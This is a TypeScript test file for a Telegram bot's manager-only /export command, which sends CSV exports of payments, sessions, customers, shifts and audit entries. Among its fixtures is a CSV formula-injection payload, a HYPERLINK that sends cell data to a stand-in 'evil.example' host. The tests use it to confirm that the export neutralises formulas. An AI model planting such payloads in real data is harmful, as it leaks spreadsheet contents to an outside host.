import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { commandMenus } from "../../src/bot/commands.js";
import { EXPORT_PAGE_ROWS } from "../../src/services/exports.js";
import { texts } from "../../src/texts/index.js";
import { interceptQueries } from "../support/db-faults.js";
import { createHarness, type Harness, type TestUser } from "../support/harness.js";

const MINUTE = 60 * 1000;
const t = texts.exports;
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';

interface Document {
  fileName: string;
  bytes: Buffer;
  /** Header row, then the rows, each cell as written (parsed with csv-parse). */
  table: string[][];
  /** The rows as objects by header. */
  rows: Record<string, string>[];
}

describe("/export for managers", () => {
  let h: Harness;
  let manager: TestUser;
  let otieno: TestUser;
  let otienoId: number;
  /** What each payments query the service made asked for. */
  let paymentQueries: { where: { id?: { gt: number } }; take?: number }[];
  /** What each audit trail query asked for. */
  let auditQueries: { where: { id?: { gt: number } }; take?: number }[];
  /** Set: the payments query after that many fails, as a database gone away in the middle of an export. */
  let failAfter: number | undefined;

  beforeEach(async () => {
    paymentQueries = [];
    auditQueries = [];
    failAfter = undefined;
    h = await createHarness(
      {},
      {
        serviceDb: (db) =>
          interceptQueries(db, ["payment.findMany", "auditEntry.findMany"], (query, args, name) => {
            if (name === "auditEntry.findMany") {
              auditQueries.push(args[0] as (typeof auditQueries)[number]);
              return query(...args);
            }
            paymentQueries.push(args[0] as (typeof paymentQueries)[number]);
            if (failAfter !== undefined && paymentQueries.length > failAfter) return Promise.reject(new Error("database unavailable"));
            return query(...args);
          }),
      },
    );
    manager = h.user(1001, "Mary");
    otieno = h.user(1002, "Otieno");
    await h.addStaff(manager, "MANAGER");
    otienoId = await h.addStaff(otieno, "OPERATOR");
  });
  afterEach(() => h.close());

  /** The documents sent to the manager since `from` (an index into the fake's calls), parsed. */
  function documents(from = 0): Document[] {
    return h.telegram
      .callsOf("sendDocument")
      .slice(from)
      .filter((call) => Number(call.params.chat_id) === manager.id)
      .map((call) => {
        const file = call.files!.document!;
        const table = parse(file.bytes, { bom: true });
        return { fileName: file.filename, bytes: file.bytes, table, rows: parse<Record<string, string>>(file.bytes, { bom: true, columns: true }) };
      });
  }

  /** Sends `/export …` as the manager; returns the documents it sent and its closing message. */
  async function exportOf(period: string): Promise<{ files: Document[]; message: string }> {
    const before = h.telegram.callsOf("sendDocument").length;
    await h.send(manager, `/export ${period}`.trim());
    return { files: documents(before), message: h.latest(manager).text };
  }

  async function customer(firstName: string, lastName: string, phone: string | null = null): Promise<number> {
    return (await h.db.customer.create({ data: { firstName, lastName, phone, searchKey: `${firstName} ${lastName}`.toLowerCase(), createdAt: h.clock.now() } }))
      .id;
  }

  /** A session for the customer, started now and ended `minutes` later by Otieno; its payment's id. */
  async function session(customerId: number, minutes: number): Promise<{ sessionId: number; paymentId: number }> {
    const started = await h.services.sessions.startSession({ customerId, computerId: null, staffId: otienoId });
    if (!started.ok) throw new Error("session not started");
    h.advance(minutes * MINUTE);
    const ended = await h.services.sessions.endSession(started.sessionId, otienoId);
    if (!ended.ok) throw new Error("session not ended");
    const payment = await h.db.payment.findFirstOrThrow({ where: { sessionId: started.sessionId } });
    return { sessionId: started.sessionId, paymentId: payment.id };
  }

  /**
   * On 28/11/2026 (the harness starts at 09:00 in Nairobi): a session of Wanjirũ's paid in cash, one of a
   * customer whose name is a formula (as imported from the old app) and one of a customer named by a
   * phone number, both not paid. Then Wanjirũ again from 23:00 to 00:30 on the 29th, paid in cash at
   * 01:30: in UTC, all of it on the 28th.
   */
  async function aDayAndANight(): Promise<{ wanjiru: number; formula: number; phoneName: number; late: { sessionId: number; paymentId: number } }> {
    const wanjiru = await customer("Wanjirũ", "Ng’ang’a", "254712345678");
    const formula = await customer(FORMULA, "Kamau");
    const phoneName = await customer("+254700000001", "-Otieno");
    const paid = await session(wanjiru, 72);
    expect(await h.services.payments.takeCash(paid.paymentId, otienoId)).toMatchObject({ ok: true });
    await session(formula, 30);
    await session(phoneName, 60);
    h.advance(Date.parse("2026-11-28T20:00:00.000Z") - h.clock.now().getTime());
    const late = await session(wanjiru, 90);
    h.advance(60 * MINUTE);
    expect(await h.services.payments.takeCash(late.paymentId, otienoId)).toMatchObject({ ok: true });
    return { wanjiru, formula, phoneName, late };
  }

  it("sends the day's payments, sessions and customers as UTF-8 CSV documents with integers, local times and formulas neutralised", async () => {
    const { wanjiru, formula, phoneName, late } = await aDayAndANight();
    const { files, message } = await exportOf("28/11/2026");

    expect(files.map((file) => file.fileName)).toEqual([
      "payments-2026-11-28_2026-11-28.csv",
      "sessions-2026-11-28_2026-11-28.csv",
      "customers-2026-11-28_2026-11-28.csv",
      "audit-2026-11-28_2026-11-28.csv",
    ]);
    for (const file of files) expect(file.bytes.subarray(0, 3)).toEqual(BOM);
    const [payments, sessions, customers] = files as [Document, Document, Document];

    expect(payments.table[0]).toEqual([
      "id",
      "date",
      "customer_id",
      "customer",
      "amount_kes",
      "state",
      "method",
      "paid_at",
      "receipt",
      "phone",
      "balance_kes",
      "original_amount_kes",
      "adjust_reason",
      "session_id",
      "prepaid_session_id",
      "recorded_by",
      "settled_by",
      "created_at",
    ]);
    // The late payment belongs to the 29th (its session ended then) and was paid then: not here.
    expect(payments.rows.map((p) => [p.customer, p.amount_kes, p.state, p.method, p.paid_at, p.settled_by, p.date])).toEqual([
      ["Wanjirũ Ng’ang’a", "120", "PAID", "CASH", "2026-11-28 10:12:00+03:00", "Otieno", "2026-11-28"],
      [`'${FORMULA} Kamau`, "50", "NOT_REQUESTED", "", "", "", "2026-11-28"],
      ["'+254700000001 -Otieno", "100", "NOT_REQUESTED", "", "", "", "2026-11-28"],
    ]);

    expect(sessions.rows.map((s) => [s.customer_id, s.started_at, s.ended_at, s.duration_seconds, s.amount_kes, s.payment_state, s.started_by])).toEqual([
      [String(wanjiru), "2026-11-28 09:00:00+03:00", "2026-11-28 10:12:00+03:00", "4320", "120", "PAID", "Otieno"],
      [String(formula), "2026-11-28 10:12:00+03:00", "2026-11-28 10:42:00+03:00", "1800", "50", "NOT_REQUESTED", "Otieno"],
      [String(phoneName), "2026-11-28 10:42:00+03:00", "2026-11-28 11:42:00+03:00", "3600", "100", "NOT_REQUESTED", "Otieno"],
      // Started on the 28th, ended on the 29th in Nairobi (both on the 28th in UTC).
      [String(wanjiru), "2026-11-28 23:00:00+03:00", "2026-11-29 00:30:00+03:00", "5400", "150", "PAID", "Otieno"],
    ]);
    expect(sessions.rows.at(-1)!.id).toBe(String(late.sessionId));

    expect(customers.table).toEqual([
      ["id", "first_name", "last_name", "id_number", "phone", "created_at"],
      [String(wanjiru), "Wanjirũ", "Ng’ang’a", "", "254712345678", "2026-11-28 09:00:00+03:00"],
      [String(formula), `'${FORMULA}`, "Kamau", "", "", "2026-11-28 09:00:00+03:00"],
      [String(phoneName), "'+254700000001", "'-Otieno", "", "", "2026-11-28 09:00:00+03:00"],
    ]);

    expect(message).toBe(
      t.sent(
        { from: "2026-11-28", to: "2026-11-28" },
        [
          { table: "payments", rows: 3 },
          { table: "sessions", rows: 4 },
          { table: "customers", rows: 3 },
          { table: "audit", rows: 8 },
        ],
        ["shifts"],
        "Africa/Nairobi",
      ),
    );
    expect(message.split("\n").slice(0, 4)).toEqual(["📤 Export for 28/11/2026:", "• payments: 3 rows", "• sessions: 4 rows", "• customers: 3 rows"]);
  });

  it("sends the shifts opened or closed in the period: a closed one with its cash-up, an open one with its close columns empty, one closed without a count", async () => {
    const managerId = (await h.db.staff.findFirstOrThrow({ where: { telegramId: BigInt(manager.id) } })).id;
    const opened = await h.services.shifts.openShift(otienoId, 1000);
    if (!opened.ok) throw new Error("shift not opened");
    const wanjiru = await customer("Wanjirũ", "Ng’ang’a", "254712345678");
    const paid = await session(wanjiru, 72);
    expect(await h.services.payments.takeCash(paid.paymentId, otienoId)).toMatchObject({ ok: true });
    h.advance(8 * MINUTE);
    // 1,000 float and 120 taken: 1,120 expected, 1,100 counted, 20 short.
    expect(await h.services.shifts.closeShift(opened.shift.id, otienoId, 1100)).toMatchObject({ ok: true });
    const stillOpen = await h.services.shifts.openShift(managerId, 500);
    if (!stillOpen.ok) throw new Error("shift not opened");
    // Taken off the staff with a shift open: closed without a count.
    const akinyiId = await h.addStaff(h.user(5002, "Akinyi"), "OPERATOR");
    const uncounted = await h.services.shifts.openShift(akinyiId, 300);
    if (!uncounted.ok) throw new Error("shift not opened");
    expect(await h.services.staff.deactivateStaff(managerId, akinyiId)).toMatchObject({ ok: true, closedShift: { countedKes: null } });

    const { files, message } = await exportOf("28/11/2026");
    const shifts = files.find((file) => file.fileName === "shifts-2026-11-28_2026-11-28.csv")!;
    expect(shifts.table).toEqual([
      ["id", "staff", "opened_at", "closed_at", "float_kes", "cash_kes", "refunded_kes", "expected_kes", "counted_kes", "difference_kes", "mpesa_kes"],
      [String(opened.shift.id), "Otieno", "2026-11-28 09:00:00+03:00", "2026-11-28 10:20:00+03:00", "1000", "120", "0", "1120", "1100", "-20", "0"],
      [String(stillOpen.shift.id), "Mary", "2026-11-28 10:20:00+03:00", "", "500", "", "", "", "", "", ""],
      [String(uncounted.shift.id), "Akinyi", "2026-11-28 10:20:00+03:00", "2026-11-28 10:20:00+03:00", "300", "0", "0", "300", "", "", "0"],
    ]);
    expect(message).toContain("• shifts: 3 rows");
    // Neither shift was opened or closed on the 29th.
    expect((await exportOf("29/11/2026")).files.map((file) => file.fileName)).toEqual([]);
  });

  it("sends the audit trail of the period: who did what, for how much, and the line /audit shows", async () => {
    const { wanjiru, formula, late } = await aDayAndANight();
    const { files } = await exportOf("28/11/2026");
    const audit = files.find((file) => file.fileName === "audit-2026-11-28_2026-11-28.csv")!;
    expect(audit.table[0]).toEqual(["id", "at", "action", "by", "about_staff", "customer", "session_id", "payment_id", "amount_kes", "line", "details"]);
    const ids = audit.rows.map((row) => Number(row.id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    const [started, ended, cash] = audit.rows as [Record<string, string>, Record<string, string>, Record<string, string>];
    const firstSession = await h.db.usageSession.findFirstOrThrow({ where: { customerId: wanjiru }, orderBy: { id: "asc" } });
    const firstPayment = await h.db.payment.findFirstOrThrow({ where: { sessionId: firstSession.id } });
    expect(started).toMatchObject({
      at: "2026-11-28 09:00:00+03:00",
      action: "session_started",
      by: "Otieno",
      about_staff: "",
      customer: "Wanjirũ Ng’ang’a",
      session_id: String(firstSession.id),
      payment_id: "",
      amount_kes: "",
      line: "28/11/2026 09:00 Otieno: started Wanjirũ Ng’ang’a's session",
    });
    expect(ended).toMatchObject({
      at: "2026-11-28 10:12:00+03:00",
      action: "session_ended",
      by: "Otieno",
      session_id: String(firstSession.id),
      payment_id: String(firstPayment.id),
      amount_kes: "120",
      line: "28/11/2026 10:12 Otieno: ended Wanjirũ Ng’ang’a's session: KES 120 owed",
    });
    expect(cash).toMatchObject({
      at: "2026-11-28 10:12:00+03:00",
      action: "cash_taken",
      by: "Otieno",
      customer: "Wanjirũ Ng’ang’a",
      payment_id: String(firstPayment.id),
      amount_kes: "120",
      line: "28/11/2026 10:12 Otieno: took KES 120 in cash from Wanjirũ Ng’ang’a",
    });
    // The customer whose name is a formula: written with a leading ', as in the other files.
    const formulaSession = await h.db.usageSession.findFirstOrThrow({ where: { customerId: formula } });
    const formulaStarted = audit.rows.find((row) => row.action === "session_started" && row.session_id === String(formulaSession.id))!;
    expect(formulaStarted.customer).toBe(`'${FORMULA} Kamau`);
    expect(formulaStarted.line).toBe(`28/11/2026 10:12 Otieno: started ${FORMULA} Kamau's session`);
    // The late session started on the 28th; its end and its cash are the 29th's.
    expect(audit.rows.filter((row) => row.session_id === String(late.sessionId)).map((row) => row.action)).toEqual(["session_started"]);
    const { files: next } = await exportOf("29/11/2026");
    const nextAudit = next.find((file) => file.fileName === "audit-2026-11-29_2026-11-29.csv")!;
    expect(nextAudit.rows.map((row) => [row.action, row.at, row.amount_kes])).toEqual([
      ["session_ended", "2026-11-29 00:30:00+03:00", "150"],
      ["cash_taken", "2026-11-29 01:30:00+03:00", "150"],
    ]);
  });

  it("streams an audit trail longer than one page, every entry once and in order", async () => {
    const count = EXPORT_PAGE_ROWS + 3;
    await h.db.auditEntry.createMany({
      data: Array.from({ length: count }, (_, i) => ({ at: h.clock.now(), action: "shift_opened", staffId: otienoId, amountKes: i + 1 })),
    });
    const { files, message } = await exportOf("");
    const audit = files.find((file) => file.fileName === "audit-2026-11-28_2026-11-28.csv")!;
    expect(audit.rows.map((row) => Number(row.amount_kes))).toEqual(Array.from({ length: count }, (_, i) => i + 1));
    expect(audit.rows[0]!.line).toBe("28/11/2026 09:00 Otieno: opened a shift with a float of KES 1");
    const ids = audit.rows.map((row) => Number(row.id));
    expect(auditQueries.map((q) => [q.where.id?.gt, q.take])).toEqual([
      [0, EXPORT_PAGE_ROWS],
      [ids[EXPORT_PAGE_ROWS - 1], EXPORT_PAGE_ROWS],
    ]);
    expect(message).toContain(`• audit: ${count.toLocaleString("en-KE")} rows`);
  });

  it("takes the days in the business time zone: a payment paid after midnight there belongs to the next day", async () => {
    const { late } = await aDayAndANight();
    const { files, message } = await exportOf("29/11/2026");
    const [payments, sessions, customers] = files as [Document, Document, Document];
    expect(payments.rows.map((p) => [p.id, p.date, p.paid_at, p.created_at])).toEqual([
      [String(late.paymentId), "2026-11-29", "2026-11-29 01:30:00+03:00", "2026-11-29 00:30:00+03:00"],
    ]);
    expect(sessions.rows.map((s) => s.id)).toEqual([String(late.sessionId)]);
    expect(customers.rows.map((c) => c.first_name)).toEqual(["Wanjirũ"]);
    expect(message.split("\n")[0]).toBe("📤 Export for 29/11/2026:");

    const { message: both } = await exportOf("1/11/2026-29/11/2026");
    expect(both.split("\n").slice(0, 4)).toEqual(["📤 Export for 01/11/2026 – 29/11/2026:", "• payments: 4 rows", "• sessions: 4 rows", "• customers: 3 rows"]);
  });

  it("says so when the period has nothing, and sends no file", async () => {
    await aDayAndANight();
    const { files, message } = await exportOf("27/11/2026");
    expect(files).toEqual([]);
    expect(message).toBe("📤 Nothing to export for 27/11/2026: no payments, sessions, customers, shifts or audit entries in these days.");
  });

  it("streams a period with more rows than one page, every row once and in order", async () => {
    const customerId = await customer("Akinyi", "Odhiambo", "254711111111");
    const count = EXPORT_PAGE_ROWS * 2 + 7;
    await h.db.payment.createMany({
      data: Array.from({ length: count }, (_, i) => ({ customerId, amountKes: 10 + i, date: "2026-11-28", recordedById: otienoId })),
    });
    const { files, message } = await exportOf("");
    const payments = files.find((file) => file.fileName === "payments-2026-11-28_2026-11-28.csv")!;
    expect(payments.rows).toHaveLength(count);
    expect(payments.rows.map((p) => Number(p.amount_kes))).toEqual(Array.from({ length: count }, (_, i) => 10 + i));
    const ids = payments.rows.map((p) => Number(p.id));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    // Read a page at a time, each after the last id of the one before.
    expect(paymentQueries.map((q) => [q.where.id?.gt, q.take])).toEqual([
      [0, EXPORT_PAGE_ROWS],
      [ids[EXPORT_PAGE_ROWS - 1], EXPORT_PAGE_ROWS],
      [ids[2 * EXPORT_PAGE_ROWS - 1], EXPORT_PAGE_ROWS],
    ]);
    expect(message.split("\n")[1]).toBe(`• payments: ${count.toLocaleString("en-KE")} rows`);
    expect(message).toContain("• sessions: none in these days, no file");
  });

  it("stops the upload and tells the manager when a page cannot be read midway", async () => {
    const customerId = await customer("Akinyi", "Odhiambo", "254711111111");
    await h.db.payment.createMany({
      data: Array.from({ length: EXPORT_PAGE_ROWS + 1 }, () => ({ customerId, amountKes: 10, date: "2026-11-28", recordedById: otienoId })),
    });
    failAfter = 1;
    await h.send(manager, "/export");
    expect(paymentQueries).toHaveLength(2);
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
    expect(h.latest(manager).text).toBe(texts.somethingWentWrong);
  });

  it("answers a period it cannot read with what to type", async () => {
    await h.send(manager, "/export soon");
    expect(h.latest(manager).text).toBe(t.problem.unreadable);
    expect(t.problem.unreadable).toContain("/export 28/11/2026");
    await h.send(manager, "/export 31/11/2026");
    expect(h.latest(manager).text).toBe(t.problem.no_such_date);
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
  });

  it("is for managers only, and in their menu and /help only", async () => {
    await aDayAndANight();
    await h.send(otieno, "/export 28/11/2026");
    expect(h.latest(otieno).text).toBe(texts.managersOnly);
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
    const { operator, manager: managers } = commandMenus();
    expect(managers.map((c) => c.command)).toContain("export");
    expect(operator.map((c) => c.command)).not.toContain("export");
    await h.send(manager, "/help");
    expect(h.latest(manager).text).toContain("/export");
    await h.send(otieno, "/help");
    expect(h.latest(otieno).text).not.toContain("/export");
  });
});
